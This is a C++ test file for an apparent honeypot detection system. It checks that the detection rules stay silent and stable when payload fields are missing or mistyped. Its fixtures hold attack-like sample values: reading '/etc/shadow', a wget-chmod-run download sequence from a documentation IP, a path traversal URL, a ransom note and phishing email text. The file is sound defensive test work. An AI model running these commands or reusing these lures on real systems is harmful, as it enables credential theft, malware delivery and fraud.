// Absence is no signal. Given are payloads in which any one part is missing, null or of another
// type, and payloads of one part or with all parts of another type. Of such a one only rules may
// fire that fire on some whole payload of its kind; nothing is thrown, and nothing logged.
//
// Whole payloads are those below and the samples of the rules. Not tried: several parts changed at
// once, a value of the right type that means nothing, and what an event has beside its payload.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <functional>
#include <map>
#include <regex>
#include <set>

#include "decnet/base/file.h"
#include "decnet/base/log.h"
#include "decnet/lifters/holder.h"
#include "decnet/lifters/lifting_test.h"
#include "decnet/rules/derived_fields.h"
#include "decnet/rules/loader.h"
#include "tests/test_main.h"

namespace decnet::lifters {
namespace {

using testing::IsEmpty;

// Every field that rules and lifters read of a kind, with values that make rules fire.
struct Fields {
  std::string_view kind;
  std::string_view payload;
};
constexpr Fields kFields[] = {
    {"command",
     R"j({"command_text":"cat /etc/shadow; uname -a","uid":"0","user":"root","src":"192.0.2.7",
         "pwd":"/root","ts":"2026-03-05T09:00:00Z","timestamp":1,"observed_at":1,"occurred_at":1})j"},
    {"http_request",
     R"j({"raw_url":"/.env?q=../../../etc/passwd","user_agent":"sqlmap/1.8","method":"GET","body":"a=b",
         "headers":{"Host":"x","User-Agent":"sqlmap/1.8"},"matched_path":"/.env","namespace":"n",
         "request_path":"/.env","path":"/.env","status":404,"bytes":5})j"},
    {"session",
     R"j({"beacon_interval_s":60,"beacon_jitter_pct":0.05,"op_text":"FLUSHALL","target":"t",
         "command_text":"FLUSHALL","body_text":"x","note_text":
         "pay bitcoin to 1NotaRea1AddressNotaRea1AddressXY to decrypt","bytes_out":9999999,
         "request_count":999,"target_host":"h","rows_read":99999,"bytes_read":99999999,
         "service":"ssh","matched_path":"/.env","request_path":"/.env","path":"/.env",
         "signals":["privileged:true"],"container_image":"i","llmnr_poisoned":true,
         "llmnr_poison_count":2,"poisoned_query":"q","victim_host":"v","tftp_filename":"a-confg",
         "source_host":"s","hassh":"x","hassh_server":"x","ja3":"4d7a28d6f2263ed61de88ca66eb011e3",
         "jarm":"22b22b09b22b22b22b22b22b22b22b352842cd5d6b0278445702035e06875c",
         "namespace":"n","decoy_event":"portscan.syn",
         "matched_framework":"f","logins":[{"outcome":"failed","username":"root","ts":"2026-03-05T09:00:00Z"}],
         "transfers":[{"transfer":"download","payload_text":"http://192.0.2.5/a","ts":"2026-03-05T09:00:00Z"}],
         "commands":[{"command_text":"wget http://192.0.2.5/x","ts":"2026-03-05T09:00:01Z"},
                     {"text":"chmod +x x"},{"command":"./x"},"id"]})j"},
    {"email",
     R"j({"rcpt_count":99,"from_domain":"x7.firebaseapp.com","from":"a@x7.firebaseapp.com",
         "mail_from_domain":"b.test","mail_from":"a@b.test","return_path_domain":"c.test",
         "body_simhash":"0f","x_mailer":"Leaf PHPMailer 2","matched_kit":"kit",
         "xmailer_kit_match":true,"urls":["https://xn--bnk-ula.example/x","http://192.0.2.9/y"],
         "dkim_signed":false,"spf_pass":false,"dmarc_pass":false,"attachment_macros":true,
         "attachment_password_protected":true,"html_smuggling":true,"mal_hash_match":true,
         "attachment_extensions":[".lnk",".iso"],"subject":"Urgent: PayPal invoice, account suspended",
         "body_text":"transfer bitcoin to 1NotaRea1AddressNotaRea1AddressXY to decrypt",
         "note_text":"n","body_base64_bytes":9999,"body_sha256":"0f","rcpt_domains":["d.test"],
         "attachment_sha256s":["0f"],"from_name":"PayPal Service","sender_checked":true,
         "reply_to_domain":"d.test","from_is_random":true,"subject_names_recipient":true,
         "links":[{"url":"http://192.0.2.9/y","text":"https://paypal.example/"}],
         "has_picture":true,"asks_for_input":true,"decky_id":"mail-1","stored_as":"x",
         "visible_text":"Verify your account and confirm your payment within 24 hours. Click here"})j"},
    {"canary_fingerprint",
     R"j({"navigator_webdriver":true,"canvas_audio_hash_match":"selenium","matched_tool":"selenium",
         "webrtc_geo_mismatch":true,"tz_mismatch_zones":4,"lang_country_mismatch":true,
         "platform_ua_inconsistent":true,"ua_webgl_mismatch":true,"src_ip":"192.0.2.7",
         "attacker_ip":"192.0.2.7","user_agent":"Mozilla/5.0 (Windows NT 10.0)","ua_signature":"x"})j"},
    {"canary_fingerprint",
     R"j({"src_ip":"192.0.2.7","user_agent":"Mozilla/5.0 (Windows NT 10.0)","headers":{
         "_geo":{"country":"BR"},"_fp":{"id":"x","nav":{"ua":"Mozilla/5.0 (Windows NT 10.0)",
         "pl":"MacIntel","wd":true,"lg":"ru-RU","lgs":"ru-RU,ru"},"cv":{"h":"c0"},"au":{"h":"c1"},
         "gl":{"r":"Mesa","ur":"Mesa"},"tz":{"z":"Asia/Tokyo"},"rtc":{"ip":["203.0.113.8"]}}}})j"},
    {"intel",
     R"j({"abuseipdb_score":90,"abuseipdb_categories":[18,22],"categories":[18],
         "greynoise_classification":"malicious","greynoise_tags":["tor_exit_node"],
         "greynoise_name":"n","feodo_listed":true,"feodo_malware_family":"f","malware_family":"f",
         "first_seen_feodo":"x","threatfox_listed":true,"threatfox_threat_types":["botnet_cc"],
         "threat_type":"botnet_cc","threatfox_malware_families":["f"],
         "threatfox_ioc_types":["ip:port"],"aggregate_verdict":"malicious"})j"},
    {"identity", R"j({"shared_password_hash":"h","account_count":9})j"},
    {"credential", R"j({"credential_hash":"h","reuse_count":4})j"},
    {"auth_attempt",
     R"j({"username":"root","password":"root","fail_count":9,"password_count":9,"result":"success",
         "prior_brute":true,"service":"ssh"})j"},
    {"payload", R"j({"payload_text":"http://192.0.2.5/a.sh","url":"http://192.0.2.5/a.sh",
         "filename":"a.sh","sha256":"0f","transfer":"upload"})j"},
    {"http_fingerprint",
     R"j({"ja4h":"GE11nn0000_03_0_0","protocol":"h1","client_ip":"192.0.2.7","seen_at":"x",
         "fingerprint_type":"http2_settings","settings":{"3":100},"ja4_quic":"q13"})j"},
    {"ipv6_leak",
     R"j({"addr":"fe80::1","src_ip":"fe80::1","mac_oui":"00:00:5e","iid_kind":"eui64","vector":"v",
         "on_iface":"e","attacker_v4":"192.0.2.7","attacker_ip":"192.0.2.7","observed_at":"x"})j"},
};

const std::vector<Json>& odd_values() {
  static const std::vector<Json> values = {
      Json(), true, 5, -7.5, "x", Json::array({Json(), 5, "x"}), Json::object({{"x", 1}})};
  return values;
}

// Whether a value of one could be taken for one of the other.
bool same_type(const Json& one, const Json& other) {
  double number = 0;
  const bool numbers = one.number(number) && other.number(number);
  return numbers || (one.boolean() != nullptr) + 2 * (one.string() != nullptr) +
                            4 * (one.array() != nullptr) + 8 * (one.object() != nullptr) ==
                        (other.boolean() != nullptr) + 2 * (other.string() != nullptr) +
                            4 * (other.array() != nullptr) + 8 * (other.object() != nullptr);
}

// Calls `give` with the value changed at each place in it: the part there replaced by every odd
// value of another type, or missing.
void each_change(const Json& value, const std::function<void(Json)>& give) {
  for (const Json& odd : odd_values()) {
    if (!same_type(value, odd)) give(odd);
  }
  if (value.object() != nullptr) {
    for (const auto& [key, part] : *value.object()) {
      Json without = Json::object({});
      for (const auto& [other, kept] : *value.object()) {
        if (other != key) without.set(other, kept);
      }
      give(std::move(without));
      each_change(part, [&](Json changed) {
        Json whole = value;
        whole.set(key, std::move(changed));
        give(std::move(whole));
      });
    }
  }
  if (value.array() == nullptr) return;
  for (std::size_t i = 0; i < value.array()->size(); ++i) {
    each_change((*value.array())[i], [&](Json changed) {
      Json::Array whole = *value.array();
      whole[i] = std::move(changed);
      give(std::move(whole));
    });
  }
}

class Absence : public testing::Test {
 protected:
  using Ids = std::set<std::string>;

  // The rules that fire, whichever lifter holds them.
  [[nodiscard]] Ids fired(std::string_view kind, const Json& payload) const {
    Ids ids;
    Event event = test::event(kind, payload);
    event.identity_uuid = "identity-1";
    for (const Lifter& lifter : registry()) {
      if (std::find(lifter.kinds.begin(), lifter.kinds.end(), *source_kind(kind)) ==
          lifter.kinds.end()) {
        continue;
      }
      EXPECT_NO_THROW({
        for (const Tag& tag : test::lift(lifter.name, *rules_, event).tags) {
          ids.insert(tag.rule_id.text());
        }
      }) << lifter.name
         << payload.dump();
    }
    return ids;
  }

  // Payloads that say everything: those above, and the samples of rules that lifters judge.
  [[nodiscard]] std::map<std::string_view, std::vector<Json>> whole_payloads() const {
    std::map<std::string_view, std::vector<Json>> whole;
    for (const auto& [kind, payload] : kFields) whole[kind].push_back(test::json(payload));
    for (const auto& rule : rules_->rules()) {
      const auto& definition = rule->definition;
      if (definition.is_pattern_rule()) continue;
      for (const Json& sample : definition.samples.fires) {
        for (const std::string& kind : definition.applies_to) {
          whole[to_string(*source_kind(kind))].push_back(sample);
        }
      }
    }
    return whole;
  }

  const std::shared_ptr<const rules::RuleSet> rules_ =
      rules::RuleSet::compile(
          rules::load_directory(decnet::test::source_dir() / "rules" / "ttp").rules,
          *attack::Catalogue::built_in())
          .rules;
};

TEST_F(Absence, TakesTagsAwayAndAddsNone) {
  const log::Capture log;
  Ids ever;
  for (const auto& [kind, whole] : whole_payloads()) {
    Ids all;
    for (const Json& payload : whole) all.merge(fired(kind, payload));
    for (const Json& payload : whole) {
      each_change(payload, [&, kind = kind](const Json& changed) {
        for (const std::string& id : fired(kind, changed)) {
          EXPECT_TRUE(all.contains(id)) << id << " on " << kind << " " << changed.dump();
        }
      });
    }
    ever.merge(all);
  }
  EXPECT_THAT(log.records(), IsEmpty());
  for (const auto& rule : rules_->rules()) {
    if (rule->definition.is_pattern_rule()) continue;
    EXPECT_TRUE(ever.contains(rule->definition.id.text())) << rule->definition.id << " never fired";
  }
}

TEST_F(Absence, WhatIsAllOfAnotherTypeIsSilent) {
  const log::Capture log;
  for (const auto& [kind, payload] : kFields) {
    const Json whole = test::json(payload);
    EXPECT_THAT(fired(kind, whole), testing::Not(IsEmpty())) << kind;
    for (const Json& odd : odd_values()) {
      EXPECT_THAT(fired(kind, odd), IsEmpty()) << kind << odd.dump();
      Json all = Json::object({});
      for (const auto& [key, value] : *whole.object()) {
        if (!same_type(value, odd)) all.set(key, odd);
        // One alone, the rest missing.
        const Json alone = Json::object({{key, same_type(value, odd) ? Json() : odd}});
        EXPECT_THAT(fired(kind, alone), IsEmpty()) << kind << alone.dump();
      }
      EXPECT_THAT(fired(kind, all), IsEmpty()) << kind << all.dump();
    }
  }
  EXPECT_THAT(log.records(), IsEmpty());
}

// In the list above is every key that a lifter's source asks a payload for, as far as the
// expression below sees it do so (not a key put together, nor one asked for by code outside the
// folder), and every field that a shipped pattern rule searches.
TEST_F(Absence, EveryFieldThatIsReadIsAmongThese) {
  std::set<std::string> known;
  const std::function<void(const Json&)> learn = [&](const Json& value) {
    if (value.object() != nullptr) {
      for (const auto& [key, part] : *value.object()) {
        known.insert(key);
        learn(part);
      }
    }
    if (value.array() != nullptr) {
      for (const Json& part : *value.array()) learn(part);
    }
  };
  for (const auto& fields : kFields) learn(test::json(fields.payload));

  const std::regex asked(
      R"re((?:payload_?(?:,|\.find\()|text\(|headers->find\(|value\(link,|kFlag =|kKey =)\s*\{?((?:"[a-z0-9_]+"(?:,\s*)?)+))re");
  const std::regex word(R"re("([a-z0-9_]+)")re");
  std::size_t sources = 0;
  for (const auto& file : std::filesystem::directory_iterator(decnet::test::source_dir() / "src" /
                                                              "decnet" / "lifters")) {
    const std::string name = file.path().filename().string();
    if (file.path().extension() != ".cc" || name.ends_with("_test.cc")) continue;
    ++sources;
    const std::string text = read_file(file.path()).value();
    for (std::sregex_iterator found(text.begin(), text.end(), asked), end; found != end; ++found) {
      const std::string keys = (*found)[1];
      for (std::sregex_iterator key(keys.begin(), keys.end(), word); key != end; ++key) {
        EXPECT_TRUE(known.contains((*key)[1])) << name << ": " << (*key)[1];
      }
    }
  }
  EXPECT_GT(sources, registry().size());
  for (const auto& rule : rules_->rules()) {
    const auto& definition = rule->definition;
    if (!definition.is_pattern_rule()) continue;
    std::vector<std::string> fields = definition.more_fields;
    if (!definition.field.empty()) fields.push_back(definition.field);
    for (const std::string& kind : definition.applies_to) {
      for (const std::string& field : fields) {
        const std::string key(rules::payload_key(kind, field));
        EXPECT_TRUE(known.contains(key) || rules::is_derived_field(kind, field))
            << definition.id << ": " << key;
      }
    }
  }
}

}  // namespace
}  // namespace decnet::lifters
